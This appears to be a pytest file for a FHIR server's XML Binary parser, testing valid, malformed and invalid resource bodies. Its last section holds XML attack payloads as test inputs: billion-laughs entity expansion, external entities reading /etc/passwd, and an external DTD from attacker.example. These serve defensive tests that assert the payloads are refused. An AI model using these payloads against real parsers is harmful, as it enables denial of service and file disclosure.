"""fhirbin.fhir.xml_parse: the FHIR XML Binary in a create/update body, and XML attacks."""

from __future__ import annotations

import base64
import json
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import anyio
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fhirbin.errors import BadRequest
from fhirbin.fhir.binary_parse import ParsedBinary, parse_binary_resource
from fhirbin.fhir.xml_parse import parse_binary_xml
from fhirbin.fhir.xml_write import binary_xml_stream, resource_to_xml

NS = 'xmlns="http://hl7.org/fhir"'


def binary(*children: str, root_attrs: str = "") -> bytes:
    return f"<Binary {NS}{root_attrs}>{''.join(children)}</Binary>".encode()


CT = '<contentType value="text/plain"/>'
DATA = '<data value="aGk="/>'


# --- accepted ----------------------------------------------------------------------------------


def test_minimal_binary() -> None:
    assert parse_binary_xml(binary(CT)) == ParsedBinary("text/plain", None, b"", None)


def test_full_binary_pretty_with_declaration_comments_and_ignored_elements() -> None:
    body = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment before the root -->
<Binary xmlns="http://hl7.org/fhir">
  <id value="abc-1"/>
  <meta>
    <versionId value="7"/>
    <lastUpdated value="2026-01-01T00:00:00Z"/>
    <tag><code value="x"/></tag>
  </meta>
  <language value="en"/>
  <!-- a comment between elements -->
  <contentType value="application/pdf"/>
  <securityContext>
    <reference value="DocumentReference/42"/>
    <type value="DocumentReference"/>
    <display value="the report"/>
  </securityContext>
  <data value="
    aGVs
    bG8=
  "/>
</Binary>
"""
    assert parse_binary_xml(body) == ParsedBinary(
        "application/pdf", "DocumentReference/42", b"hello", "abc-1"
    )


def test_data_with_character_reference_line_breaks_and_a_utf8_bom() -> None:
    body = b"\xef\xbb\xbf" + binary(CT, '<data value="aGVs&#10;bG8=&#13;&#10;"/>')
    parsed = parse_binary_xml(body)
    assert parsed is not None
    assert parsed.data == b"hello"


def test_content_type_keeps_case_and_parameters_and_fhir_version_is_not_checked() -> None:
    # As binary_parse: inside a resource, contentType describes the data (describes_request).
    body = binary('<contentType value=" application/fhir+json; fhirVersion=3.0 "/>')
    parsed = parse_binary_xml(body)
    assert parsed is not None
    assert parsed.content_type == "application/fhir+json; fhirVersion=3.0"


def test_prefixed_fhir_namespace_is_the_same_namespace() -> None:
    body = (
        b'<f:Binary xmlns:f="http://hl7.org/fhir"><f:contentType value="a/b"/>'
        b'<f:data value="aGk="/></f:Binary>'
    )
    assert parse_binary_xml(body) == ParsedBinary("a/b", None, b"hi", None)


@dataclass(frozen=True)
class Meta:
    id: str
    content_type: str
    security_context: str | None
    size: int
    version: int = 1
    last_updated: datetime = datetime(2026, 1, 1, tzinfo=UTC)


async def _one(data: bytes) -> AsyncIterator[bytes]:
    yield data


async def _collect(meta: Meta, data: bytes, pretty: bool) -> bytes:
    return b"".join([c async for c in binary_xml_stream(meta, _one(data), pretty)])


@settings(deadline=None, database=None)
@given(
    data=st.binary(max_size=600),
    content_type=st.sampled_from(
        ["text/plain", 'text/plain; charset="utf-8"', "application/fhir+xml", "image/svg+xml"]
    ),
    security=st.none() | st.sampled_from(["Patient/1", "https://x.org/fhir/Group/a.b-c"]),
    id_=st.from_regex(r"[A-Za-z0-9\-.]{1,64}", fullmatch=True),
    pretty=st.booleans(),
)
def test_what_the_writer_writes_the_parser_reads(
    data: bytes, content_type: str, security: str | None, id_: str, pretty: bool
) -> None:
    meta = Meta(id_, content_type, security, len(data))
    out = anyio.run(_collect, meta, data, pretty)
    assert parse_binary_xml(out) == ParsedBinary(content_type, security, data, id_)


# --- not a Binary: stored as native content (None) ----------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b"hello",
        b'{"resourceType": "Binary", "contentType": "text/plain"}',
        b"<Binary",  # not well-formed
        b"<Binary xmlns='http://hl7.org/fhir'><contentType value='a/b'/></Binary><x/>",
        b"<a>&undefined;</a>",  # an entity that is not declared: not well-formed
        b'<Patient xmlns="http://hl7.org/fhir"><id value="1"/></Patient>',
        b'<Bundle xmlns="http://hl7.org/fhir"><type value="collection"/></Bundle>',
        b'<Binary><contentType value="a/b"/></Binary>',  # no namespace: not FHIR
        b'<Binary xmlns="http://hl7.org/fhir/"><contentType value="a/b"/></Binary>',
        b'<binary xmlns="http://hl7.org/fhir"><contentType value="a/b"/></binary>',
        b'<?xml version="1.0" encoding="ISO-8859-1"?><Binary xmlns="http://hl7.org/fhir">'
        b'<contentType value="a/b"/><language value="\xe9"/></Binary>',  # not UTF-8
        '<Binary xmlns="http://hl7.org/fhir"><contentType value="a/b"/></Binary>'.encode("utf-16"),
        b"\x89PNG\r\n\x1a\n\x00\x00",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    ],
)
def test_bodies_that_are_not_a_fhir_binary_are_native_content(body: bytes) -> None:
    assert parse_binary_xml(body) is None


def test_an_encoding_declaration_names_no_codec_to_run() -> None:
    # The body is decoded as UTF-8 before parsing, so a declared codec is never looked up.
    for encoding in ("rot13", "unicode_escape", "utf-32", "bogus"):
        body = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + binary(CT)
        assert parse_binary_xml(body) == ParsedBinary("text/plain", None, b"", None)


# --- refused: BadRequest naming the element -----------------------------------------------------


def _refused(body: bytes) -> BadRequest:
    with pytest.raises(BadRequest) as info:
        parse_binary_xml(body)
    return info.value


@pytest.mark.parametrize(
    ("body", "expression", "code"),
    [
        (binary(DATA), "Binary.contentType", "invalid"),
        (binary('<contentType value="text"/>'), "Binary.contentType", "invalid"),
        (binary('<contentType value="*/*"/>'), "Binary.contentType", "invalid"),
        (binary('<contentType value="text/plain;  x=1"/>'), "Binary.contentType", "invalid"),
        (binary("<contentType/>"), "Binary.contentType", "invalid"),
        (binary('<contentType value=""/>'), "Binary.contentType", "invalid"),
        (binary('<contentType value="  "/>'), "Binary.contentType", "invalid"),
        (binary("<contentType>text/plain</contentType>"), "Binary.contentType", "invalid"),
        (
            binary('<contentType value="a/b"><contentType value="a/b"/></contentType>'),
            "Binary.contentType",
            "invalid",
        ),
        (
            binary('<contentType value="a/b"><extension url="u"/></contentType>'),
            "Binary.contentType",
            "not-supported",
        ),
        (binary('<contentType id="c1" value="a/b"/>'), "Binary.contentType", "not-supported"),
        (binary('<contentType value="a/b" other="1"/>'), "Binary.contentType", "invalid"),
        (binary(CT, CT), "Binary.contentType", "invalid"),
        (binary(CT, '<data value="a"/>'), "Binary.data", "invalid"),
        (binary(CT, '<data value="aGk=!"/>'), "Binary.data", "invalid"),
        (binary(CT, '<data value="aGk"/>'), "Binary.data", "invalid"),
        (binary(CT, '<data value=""/>'), "Binary.data", "invalid"),
        (binary(CT, "<data/>"), "Binary.data", "invalid"),
        (binary(CT, DATA, DATA), "Binary.data", "invalid"),
        (binary(DATA, CT), "Binary.contentType", "invalid"),  # out of order
        (binary(CT, '<id value="x"/>'), "Binary.id", "invalid"),  # out of order
        (binary('<id value="x"/>', '<id value="y"/>', CT), "Binary.id", "invalid"),
        (binary('<id value=""/>', CT), "Binary.id", "invalid"),
        (binary('<language value=" "/>', CT), "Binary.language", "invalid"),
        (binary('<meta value="x"/>', CT), "Binary.meta", "invalid"),
        (binary('<text><status value="generated"/></text>', CT), "Binary.text", "invalid"),
        (binary("<contained/>", CT), "Binary.contained", "invalid"),
        (binary(CT, '<extension url="u"/>'), "Binary.extension", "invalid"),
        (binary(CT, '<modifierExtension url="u"/>'), "Binary.modifierExtension", "invalid"),
        (binary('<implicitRules value="http://x"/>', CT), "Binary.implicitRules", "not-supported"),
        (binary(CT, '<content value="aGk="/>'), "Binary.content", "invalid"),
        (binary(CT, '<x:data xmlns:x="urn:x" value="aGk="/>'), "Binary.{urn:x}data", "invalid"),
        (binary(CT, "hello"), "Binary", "invalid"),
        (binary("hello", CT), "Binary", "invalid"),
        (binary(CT, root_attrs=' id="x"'), "Binary", "invalid"),
        (binary(CT, "<securityContext/>"), "Binary.securityContext.reference", "invalid"),
        (
            binary(CT, '<securityContext><display value="d"/></securityContext>'),
            "Binary.securityContext.reference",
            "invalid",
        ),
        (
            binary(CT, '<securityContext><reference value="not a ref"/></securityContext>'),
            "Binary.securityContext.reference",
            "invalid",
        ),
        (
            binary(CT, '<securityContext><reference value=""/></securityContext>'),
            "Binary.securityContext.reference",
            "invalid",
        ),
        (
            binary(
                CT,
                '<securityContext><identifier><value value="1"/></identifier></securityContext>',
            ),
            "Binary.securityContext.identifier",
            "not-supported",
        ),
        (
            binary(CT, '<securityContext><extension url="u"/></securityContext>'),
            "Binary.securityContext.extension",
            "invalid",
        ),
        (
            binary(
                CT,
                '<securityContext><reference value="Patient/1"/>'
                '<reference value="Patient/2"/></securityContext>',
            ),
            "Binary.securityContext.reference",
            "invalid",
        ),
        (
            binary(
                CT,
                '<securityContext><display value="d"/>'
                '<reference value="Patient/2"/></securityContext>',
            ),
            "Binary.securityContext.reference",
            "invalid",
        ),
        (
            binary(
                CT,
                '<securityContext><reference value="Patient/1"/><type value=""/></securityContext>',
            ),
            "Binary.securityContext.type",
            "invalid",
        ),
        (
            binary(CT, '<securityContext id="s"><reference value="Patient/1"/></securityContext>'),
            "Binary.securityContext",
            "invalid",
        ),
        (
            binary(CT, '<securityContext value="Patient/1"/>'),
            "Binary.securityContext",
            "invalid",
        ),
        (
            binary(
                CT, '<securityContext>Patient/1<reference value="Patient/1"/></securityContext>'
            ),
            "Binary.securityContext",
            "invalid",
        ),
        (
            binary(CT, '<securityContext><reference value="Patient/1"/></securityContext>', CT),
            "Binary.contentType",
            "invalid",
        ),
    ],
)
def test_invalid_binaries_are_refused_naming_the_element(
    body: bytes, expression: str, code: str
) -> None:
    error = _refused(body)
    assert error.status == 400
    assert error.expression == expression
    assert error.code == code


def test_long_unknown_element_names_are_cut_in_the_answer() -> None:
    error = _refused(binary(CT, f'<{"x" * 500} value="1"/>'))
    assert error.expression == "Binary." + "x" * 100


# --- the same answers as the JSON parser ---------------------------------------------------------


@pytest.mark.parametrize(
    ("json_body", "xml_body"),
    [
        ({"contentType": "text/plain"}, binary(CT)),
        ({"contentType": "text/plain", "data": "aGk="}, binary(CT, DATA)),
        (
            {"id": "i", "contentType": "a/b", "securityContext": {"reference": "Patient/1"}},
            binary(
                '<id value="i"/>',
                '<contentType value="a/b"/>',
                '<securityContext><reference value="Patient/1"/></securityContext>',
            ),
        ),
        ({"data": "aGk="}, binary(DATA)),
        ({"contentType": "text/plain", "data": "!!"}, binary(CT, '<data value="!!"/>')),
        ({"contentType": "text/plain", "text": {}}, binary(CT, "<text/>")),
        ({"contentType": "a/b", "implicitRules": "u"}, binary('<implicitRules value="u"/>', CT)),
        ({"contentType": "a/b", "bogus": 1}, binary(CT, '<bogus value="1"/>')),
        (
            {"contentType": "a/b", "securityContext": {"identifier": {}}},
            binary(CT, "<securityContext><identifier/></securityContext>"),
        ),
        (
            {"contentType": "a/b", "securityContext": {"reference": "nope"}},
            binary(CT, '<securityContext><reference value="nope"/></securityContext>'),
        ),
        (
            {"contentType": "a/b", "_contentType": {"id": "x"}},
            binary('<contentType value="a/b" id="x"/>'),
        ),
    ],
)
def test_the_xml_parser_answers_as_the_json_parser(
    json_body: dict[str, Any], xml_body: bytes
) -> None:
    def outcome(parse: Any, body: bytes) -> Any:
        try:
            return parse(body)
        except BadRequest as error:
            return (error.status, error.code, error.expression)

    expected = outcome(
        parse_binary_resource, json.dumps({"resourceType": "Binary", **json_body}).encode()
    )
    assert outcome(parse_binary_xml, xml_body) == expected


def test_round_trip_through_resource_to_xml() -> None:
    resource = {
        "resourceType": "Binary",
        "id": "r",
        "meta": {"versionId": "1"},
        "language": "de",
        "contentType": "application/pdf",
        "securityContext": {"reference": "Patient/9", "display": "P"},
        "data": base64.b64encode(b"%PDF-1.7").decode(),
    }
    assert parse_binary_xml(resource_to_xml(resource, pretty=True)) == ParsedBinary(
        "application/pdf", "Patient/9", b"%PDF-1.7", "r"
    )


# --- XML attacks: refused, never expanded or fetched --------------------------------------------


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Binary [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Binary xmlns="http://hl7.org/fhir">
  <contentType value="text/plain"/>
  <language value="&lol9;"/>
</Binary>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Binary [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Binary xmlns="http://hl7.org/fhir">
  <contentType value="text/plain"/>
  <securityContext><display value="&xxe;"/><reference value="Patient/1"/></securityContext>
</Binary>
"""

ATTACKS = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "external DTD": b'<!DOCTYPE Binary SYSTEM "http://attacker.example/x.dtd">' + binary(CT),
    "parameter entity": (
        b'<!DOCTYPE Binary [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>' + binary(CT)
    ),
    "harmless-looking internal entity": (
        b'<!DOCTYPE Binary [<!ENTITY ct "text/plain">]>'
        b'<Binary xmlns="http://hl7.org/fhir"><contentType value="&ct;"/></Binary>'
    ),
    "empty internal subset": b"<!DOCTYPE Binary []>" + binary(CT),
    "DTD on a non-Binary root": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_dtds_and_entities_are_refused_not_expanded(name: str) -> None:
    started = time.monotonic()
    error = _refused(ATTACKS[name])
    assert time.monotonic() - started < 1.0  # nothing was expanded
    assert error.status == 400
    assert "DTD" in error.diagnostics
    assert "lol" not in error.diagnostics
    assert "root:" not in error.diagnostics  # /etc/passwd was never read


def test_the_refusal_does_not_depend_on_the_rest_of_the_body() -> None:
    # Refused even when what follows the DTD is not well-formed: the DTD is seen first.
    assert _refused(b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;').status == 400
